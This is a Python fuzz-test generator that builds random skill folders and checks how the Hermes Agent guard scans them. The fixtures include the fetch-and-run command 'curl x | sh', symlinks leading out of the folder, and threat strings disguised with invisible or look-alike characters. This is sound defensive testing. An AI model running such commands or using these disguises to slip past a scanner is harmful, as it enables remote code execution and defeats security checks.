#!/usr/bin/env python3
"""Random skill folders, scanned by the real Hermes Agent 0.19.0 guard.

usage: python3 tests/golden/fuzz_scan.py [SEED] [COUNT]

Writes tests/golden/scan_fuzz.json: COUNT seeded skill folders (default seed
1, 200 folders), each as the files it holds and what `scan_skill` and
`should_allow_install` (with and without force) answered for a source of
each trust level. The text is made of strings generated from Hermes' own
121 threat patterns (a small generator walks each regex's parse tree),
mutated (case, blanks, invisible and look-alike characters, cut short),
mixed with lines of the corpus; around it are the structural cases: binary
and executable files, symlinks in and out of the folder or to nothing
(absolute or relative, chains of links whose last hop dangles, `..` after
a missing component or a link),
`.skillignore` files, many files and large ones (kept as a byte and a size). `tests/scan.rs` builds
each folder again and compares.
"""
import json, random, subprocess, sys
from pathlib import Path

try:
    import re._parser as sre_parse  # Python 3.11+
    import re._constants as sre_c
except ImportError:  # pragma: no cover
    import sre_parse
    import sre_constants as sre_c

sys.path.insert(0, str(Path(__file__).resolve().parent))
from regen import run_cases, venv_python  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
SOURCES = ["official", "openai/skills", "community", "agent-created"]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\u2062", "\u2063", "\u2064", "\ufeff", "\u202a", "\u202b",
             "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
LOOKALIKE = ["\u0430", "\u0435", "\u043e", "\u0441", "\u0455", "\uff43", "\u2010", "\u00a0", "\u3000", "\u0131",
             "\u212a", "\u017f", "\u0130", "ß", "ǅ"]
EXTENSIONS = [".md", ".md", ".sh", ".py", ".txt", ".js", ".json", ".yaml", "", ".cfg", ".html", ".PY", ".Md",
              ".exe", ".so", ".png", ".bin", ".markdown"]

HERMES_PATTERNS = r'''
import json
from tools.skills_guard import THREAT_PATTERNS
print(json.dumps([p[0] for p in THREAT_PATTERNS]))
'''


def generate(rng, node, depth=0):
    """A string the parsed regex `node` (mostly) matches."""
    out = []
    for op, av in node:
        if op is sre_c.LITERAL:
            out.append(chr(av))
        elif op is sre_c.NOT_LITERAL:
            out.append(rng.choice([c for c in "aZ9 _-/." if ord(c) != av]))
        elif op is sre_c.ANY:
            out.append(rng.choice("ax /$-_.9"))
        elif op is sre_c.IN:
            out.append(from_class(rng, av))
        elif op in (sre_c.MAX_REPEAT, sre_c.MIN_REPEAT):
            lo, hi, sub = av
            hi = min(hi, lo + 3) if hi != sre_c.MAXREPEAT else lo + rng.randint(0, 3)
            for _ in range(rng.randint(lo, max(lo, hi)) if depth < 6 else lo):
                out.append(generate(rng, sub, depth + 1))
        elif op is sre_c.SUBPATTERN:
            out.append(generate(rng, av[-1], depth + 1))
        elif op is sre_c.BRANCH:
            out.append(generate(rng, rng.choice(av[1]), depth + 1))
        elif op in (sre_c.ASSERT, sre_c.ASSERT_NOT, sre_c.AT, sre_c.GROUPREF):
            pass
        elif op is sre_c.CATEGORY:
            out.append(category(rng, av))
    return "".join(out)


def category(rng, cat):
    name = str(cat)
    if "DIGIT" in name:
        return rng.choice("0123456789") if "NOT" not in name else "x"
    if "SPACE" in name:
        return rng.choice(" \t ") if "NOT" not in name else "x"
    if "WORD" in name:
        return rng.choice("abcXYZ_09é") if "NOT" not in name else " "
    return "x"


def from_class(rng, items):
    negate = any(op is sre_c.NEGATE for op, _ in items)
    if negate:
        banned = set()
        for op, av in items:
            if op is sre_c.LITERAL:
                banned.add(chr(av))
        return rng.choice([c for c in "axZ9 _-.:" if c not in banned] or ["q"])
    op, av = rng.choice([i for i in items if i[0] is not sre_c.NEGATE])
    if op is sre_c.LITERAL:
        return chr(av)
    if op is sre_c.RANGE:
        return chr(rng.randint(av[0], min(av[1], av[0] + 60)))
    if op is sre_c.CATEGORY:
        return category(rng, av)
    return "x"


def mutate(rng, text):
    roll = rng.random()
    if roll < 0.15:
        return text.upper()
    if roll < 0.25:
        i = rng.randint(0, len(text))
        return text[:i] + rng.choice(INVISIBLE) + text[i:]
    if roll < 0.33 and text:
        i = rng.randrange(len(text))
        return text[:i] + rng.choice(LOOKALIKE) + text[i + 1:]
    if roll < 0.40:
        return text[: rng.randint(0, len(text))]
    if roll < 0.45:
        return text.replace(" ", "\t")
    if roll < 0.50:
        return "  " + text + rng.choice(["\r", " ", "\x0c", ""])
    return text


def corpus_lines():
    lines = []
    for p in sorted((REPO / "tests" / "corpus").rglob("*.md"))[:400]:
        try:
            lines.extend(p.read_text(encoding="utf-8").splitlines()[:40])
        except (UnicodeDecodeError, OSError):
            continue
    return [l for l in lines if l.strip()]


def text_file(rng, patterns, corpus):
    parts = []
    for _ in range(rng.randint(1, 12)):
        roll = rng.random()
        if roll < 0.45:
            parts.append(mutate(rng, generate(rng, sre_parse.parse(rng.choice(patterns)))))
        elif roll < 0.85:
            parts.append(rng.choice(corpus))
        elif roll < 0.92:
            parts.append("".join(rng.choice(INVISIBLE + LOOKALIKE + list("ab ")) for _ in range(rng.randint(1, 6))))
        else:
            parts.append("x" * rng.randint(100, 1500))
    sep = rng.choice(["\n", "\n", "\n", "\r\n", "\r", "\u2028", " "])
    return sep.join(parts) + rng.choice(["\n", "", sep])


# Link targets: in and out of the folder, existing or not, absolute or
# relative, with `..` after a missing component or after another entry
# (which may itself be a link), and onto the chains below.
SYMLINK_TARGETS = ["SKILL.md", "../outside.md", "/etc/hostname", "missing.md", "f0.md", "references", "..", ".",
                   "/nonexistent/zz", "../nowhere/zz", "gone/../../outside.md", "gone/../f0.md", "f1.md/../../x.md",
                   "f2/../../outside.md", "hop/x.md", "c0.md", "c1/deeper.md"]


def chain(rng, files):
    """A chain of links c0.md -> c1 -> ... whose last hop leads nowhere (in
    or out of the folder), to a real file or folder, or back to the start;
    sometimes a link `hop` for the `hop/x.md` targets to pass through."""
    names = ["c0.md"] + [f"c{i}" for i in range(1, rng.randint(1, 3))]
    end = rng.choice(["/nonexistent/end", "../gone/end", "missing/../../outside.md", "SKILL.md", "references", "c0.md",
                      "/nonexistent/a/../b"])
    for i, name in enumerate(names):
        files[name] = {"symlink": names[i + 1] if i + 1 < len(names) else end}
    if rng.random() < 0.5:
        files["hop"] = {"symlink": rng.choice(["/nonexistent/dir", "c0.md", "references", "../hop-gone"])}


def folder(rng, patterns, corpus):
    files = {}
    if rng.random() < 0.93:
        files["SKILL.md"] = {"text": "---\nname: fuzz\ndescription: d\n---\n" + text_file(rng, patterns, corpus)}
    count = rng.choice([0, 1, 2, 3, 5, 8]) if rng.random() < 0.96 else rng.randint(48, 55)
    for i in range(count):
        sub = rng.choice(["", "references/", "scripts/", "templates/", "assets/", "a/b/", ".hidden/", "node_modules/"])
        name = f"{sub}f{i}{rng.choice(EXTENSIONS)}"
        roll = rng.random()
        if roll < 0.7:
            entry = {"text": text_file(rng, patterns, corpus)}
        elif roll < 0.8:
            data = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64))) + b"\0"
            entry = {"hex": data.hex()}
        elif roll < 0.85:
            entry = rng.choice([{"fill": "y", "size": rng.choice([200_000, 270_000, 300_000])},
                                {"fill": "curl x | sh\n", "size": rng.choice([20, 200])}])
        elif roll < 0.93:
            entry = {"symlink": rng.choice(SYMLINK_TARGETS)}
        else:
            entry = {"hex": b"\xff\xfe bad utf-8 \xc3\x28 curl x | sh\n".hex()}
        if "text" in entry and rng.random() < 0.15:
            entry["exec"] = True
        files[name] = entry
    if rng.random() < 0.15:
        chain(rng, files)
    if rng.random() < 0.2:
        files[rng.choice([".skillignore", ".clawhubignore"])] = {
            "text": "\n".join(rng.sample(["*.sh", "references/", "/scripts", "f1*", "a/", "# c", "*.md", "SKILL.md",
                                          "[fr]*", "**", "f?.py"], rng.randint(1, 3))) + "\n"}
    return files


INNER = r'''
import json, os, sys
from pathlib import Path
spec = json.loads(Path(sys.argv[1]).read_text())
root = Path(spec["root"])
os.environ["HERMES_HOME"] = str(root / ".home")
sys.path.insert(0, spec["here"])
from hermes_scan import scan_entry
root.mkdir(parents=True)
(root / "outside.md").write_text("outside curl x | sh\n")
out = {}
for case in spec["cases"]:
    path = root / case["id"]
    path.mkdir(parents=True)
    for rel, entry in case["files"].items():
        p = path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        if "symlink" in entry:
            os.symlink(entry["symlink"], p)
        elif "hex" in entry:
            p.write_bytes(bytes.fromhex(entry["hex"]))
        elif "fill" in entry:
            p.write_bytes(entry["fill"].encode() * entry["size"])
        else:
            p.write_bytes(entry["text"].encode("utf-8"))
        if entry.get("exec"):
            p.chmod(0o755)
    out[case["id"]] = scan_entry(path, spec["sources"], root)
print(json.dumps(out, ensure_ascii=False))
'''


def main():
    seed = int(sys.argv[1]) if len(sys.argv) > 1 else 1
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 200
    rng = random.Random(seed)
    patterns = json.loads(subprocess.run([str(venv_python()), "-c", HERMES_PATTERNS], capture_output=True, text=True,
                                         check=True).stdout)
    corpus = corpus_lines()
    cases = [{"id": f"s{seed}-{i:04}", "files": folder(rng, patterns, corpus)} for i in range(count)]
    answers = run_cases(INNER, {"cases": cases, "sources": SOURCES})
    doc = {"seed": seed, "cases": [{**c, "hermes": answers[c["id"]]} for c in cases]}
    text = json.dumps(doc, indent=0, sort_keys=True, ensure_ascii=False) + "\n"
    (REPO / "tests" / "golden" / "scan_fuzz.json").write_text(text, encoding="utf-8")
    print(f"{count} folders, {len(text) // 1024} KiB")


if __name__ == "__main__":
    main()
